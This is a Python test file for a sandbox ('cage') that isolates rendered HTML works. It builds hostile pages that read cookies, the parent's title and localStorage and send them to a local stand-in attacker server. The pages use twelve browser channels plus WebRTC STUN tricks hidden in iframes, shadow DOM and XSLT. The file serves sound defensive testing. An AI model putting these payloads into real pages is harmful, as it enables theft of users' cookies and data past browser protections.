"""A work that is a hostile web page gets nothing out of the cage: twelve ways, each seen to work outside of it."""

from __future__ import annotations

import html
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from miaobi.brief import Brief
from miaobi.compose import compose
from miaobi.studio.library import Library
from tests.page.conftest import Studio, Visit
from tests.parrot import Parrot

pytestmark = pytest.mark.tools
WAYS = {
    "fetch": "fetch('{at}/fetch?' + what, {{mode: 'no-cors'}}).catch(() => {{}})",
    "image": "new Image().src = '{at}/image?' + what",
    "socket": "try {{ new WebSocket('{at}/socket'.replace('http', 'ws')) }} catch {{}}",
    "beacon": "navigator.sendBeacon('{at}/beacon', what)",
    "script": "add('script', {{src: '{at}/script'}})",
    "style": "add('link', {{rel: 'stylesheet', href: '{at}/style'}})",
    "prefetch": "add('link', {{rel: 'prefetch', href: '{at}/prefetch'}})",
    "popup": "try {{ window.open('{at}/popup') }} catch {{}}",
    "frame": "add('iframe', {{src: '{at}/frame'}})",
    "form": "try {{ add('form', {{action: '{at}/form', method: 'post', target: '_blank'}}).submit() }} catch {{}}",
    "top": "try {{ top.location = '{at}/top?' + what }} catch {{}}",
    "self": "setTimeout(() => {{ location.href = '{at}/self?' + what }}, 300)",
}
CALL = """const call = async () => {
    const line = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT'}]})
    line.createDataChannel('x')
    await line.setLocalDescription(await line.createOffer())
}; call()"""
FRAMED = f"<script>{CALL}</script>"
CALLS = {  # packets by WebRTC, to which no policy of a header applies: by the page, by a frame that it makes
    "itself": f"<script>{CALL}</script>",
    "markup": f'<iframe srcdoc="{html.escape(FRAMED)}"></iframe>',
    "shadow": f'<p><template shadowrootmode=closed><iframe srcdoc="{html.escape(FRAMED)}"></iframe></template></p>',
    "srcdoc": """<script>const f = document.createElement('iframe'); f.srcdoc = FRAMED
    document.documentElement.append(f)</script>""",
    "parsed": """<script>document.documentElement.insertAdjacentHTML('beforeend', '<ifr' + 'ame></ifr' + 'ame>')
    const f = document.createElement('div'); f.setAttribute('srcdoc', FRAMED)
    document.querySelector('iframe').setAttributeNode(f.removeAttributeNode(f.getAttributeNode('srcdoc')))</script>""",
    "xslt": """<script>const at = 'http://www.w3.org/1999/XSL/Transform', made = new XSLTProcessor()
    const sheet = document.implementation.createDocument(at, 'stylesheet'), root = sheet.documentElement
    root.setAttribute('version', '1.0')
    const add = (to, tag, name, value) => {
        const one = to.appendChild(sheet.createElementNS(at, tag)); one.setAttribute(name, value); return one }
    const frame = add(add(root, 'template', 'match', '/'), 'element', 'name', 'ifr' + 'ame')
    add(frame, 'attribute', 'name', 'srcdoc').textContent = FRAMED
    made.importStylesheet(sheet)
    document.documentElement.append(made.transformToFragment(document.implementation.createDocument('', 'a'), document))
    </script>""",
}
ADDRESS = "work => fetch(`/api/works/${work}/artifact`, {method: 'POST'}).then(a => a.json())"


@pytest.fixture
def attacker() -> Iterator[tuple[str, set[str]]]:
    """A server that somebody else runs on this machine: its address, and the ways by which it was reached."""
    reached: set[str] = set()

    class Listening(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            reached.add(self.path.partition("?")[0].lstrip("/"))
            self.send_response(200)
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_: Any) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listening)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", reached
    server.shutdown()
    thread.join()
    server.server_close()


def hostile(at: str, *ways: str) -> bytes:
    """Return a page that tries to send what it can see of whoever shows it."""
    tried = "\n".join(f"try {{ {WAYS[way].format(at=at)} }} catch {{}}" for way in ways)
    return f"""<!doctype html><title>hostile</title><p>ran</p><script>
    const add = (tag, values) => document.head.appendChild(Object.assign(document.createElement(tag), values))
    let what = 'cookie=' + (() => {{ try {{ return document.cookie }} catch {{ return 'none' }} }})()
    try {{ what += '&parent=' + parent.document.title }} catch {{}}
    try {{ what += '&store=' + localStorage.length }} catch {{}}
    {tried}
    document.querySelector('p').textContent = what
    </script>""".encode()


def kept(content: bytes, title: str) -> str:
    """Keep a work whose page is hostile in the library, as if its form had made it so."""
    work = compose(Brief(form="haiku", idea=title), engine=Parrot(), formats=["html"])
    page = work.renderings[0].model_copy(update={"content": content})
    with Library() as library:
        library.add(work.model_copy(update={"renderings": (page,)}))
    return work.id


def test_cage_lets_none_of_twelve_ways_out(visit: Visit, attacker: tuple[str, set[str]]) -> None:
    at, reached = attacker
    work = kept(hostile(at, *WAYS), "hostile")
    page = visit("en", 1280)
    address = page.evaluate(ADDRESS, work)
    before = page.url
    page.evaluate(
        """url => new Promise((done) => {
            const frame = document.createElement('iframe')
            frame.sandbox = 'allow-scripts'
            frame.src = url
            frame.onload = () => setTimeout(done, 1500)
            document.body.appendChild(frame)
        })""",
        address["url"],
    )
    page.seen.complaints.clear()  # each refusal is one
    page.seen.requests = [url for url in page.seen.requests if not url.startswith(at)]  # asked for, never sent
    assert reached == set()
    assert page.url == before
    assert len(page.context.pages) == 1


def test_cage_holds_where_its_address_is_opened_by_itself(
    chromium: Any, studio: Studio, visit: Visit, attacker: tuple[str, set[str]]
) -> None:
    at, reached = attacker
    work = kept(hostile(at, *(set(WAYS) - {"self", "top"})), "hostile alone")  # a tab may go where it likes
    page = visit("en", 1280)
    address = page.evaluate(ADDRESS, work)
    alone = page.context.new_page()
    alone.goto(studio.url + address["url"])
    alone.wait_for_timeout(900)
    page.seen.complaints.clear()
    page.seen.requests = [url for url in page.seen.requests if not url.startswith(at)]
    assert reached == set()
    assert alone.locator("p").inner_text() == "cookie=none&parent=hostile"  # its own window: there is no other
    assert len(page.context.pages) == 2


def test_outside_of_the_cage_every_way_leads_out(chromium: Any, attacker: tuple[str, set[str]], tmp_path: Path) -> None:
    at, reached = attacker
    context = chromium.new_context()
    for way in WAYS:  # one by one: the first that navigates would end the others
        page = context.new_page()
        path = tmp_path / f"{way}.html"
        path.write_bytes(hostile(at, way))
        page.goto(path.as_uri(), wait_until="commit")
        for _ in range(40):
            if way in reached:
                break
            page.wait_for_timeout(50)
    context.close()
    assert set(WAYS) - reached <= {"prefetch", "popup"}  # a browser may save the first and block the second


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A socket of somebody else's that packets can be sent to."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listening:
        listening.bind(("127.0.0.1", 0))
        listening.setblocking(False)
        yield listening


def calling(listener: socket.socket, *ways: str) -> bytes:
    """Return a page that sends packets."""
    quoted = FRAMED.replace("`", "\\`").replace("</", "<\\/")
    body = "".join(CALLS[way].replace("FRAMED", "`" + quoted + "`") for way in ways)
    return f"<!doctype html><title>calls</title>{body}<p>ran</p>".replace(
        "PORT", str(listener.getsockname()[1])
    ).encode()


def heard(listener: socket.socket) -> bool:
    try:
        return bool(listener.recv(2_000))
    except BlockingIOError:
        return False


def test_cage_lets_no_packet_of_webrtc_out(visit: Visit, listener: socket.socket) -> None:
    page = visit("en", 1280)
    work = kept(calling(listener, *CALLS), "calls")
    address = page.evaluate(ADDRESS, work)
    page.evaluate(
        """url => new Promise((done) => {
            const frame = document.createElement('iframe')
            frame.sandbox = 'allow-scripts'
            frame.src = url
            frame.onload = () => setTimeout(done, 1000)
            document.body.appendChild(frame)
        })""",
        address["url"],
    )
    page.seen.complaints.clear()  # each refusal is one
    assert not heard(listener)
    assert page.frames[-1].locator("p").last.inner_text() == "ran"


def test_outside_of_the_cage_every_call_is_heard(chromium: Any, listener: socket.socket, tmp_path: Path) -> None:
    context = chromium.new_context()
    silent = set(CALLS)
    for way in CALLS:
        page = context.new_page()
        path = tmp_path / f"{way}.html"
        path.write_bytes(calling(listener, way))
        page.goto(path.as_uri())
        for _ in range(40):
            if heard(listener):
                silent.discard(way)
                break
            page.wait_for_timeout(50)
        page.close()
        while heard(listener):
            pass
    context.close()
    assert silent <= {"xslt"}  # browsers are about to drop it
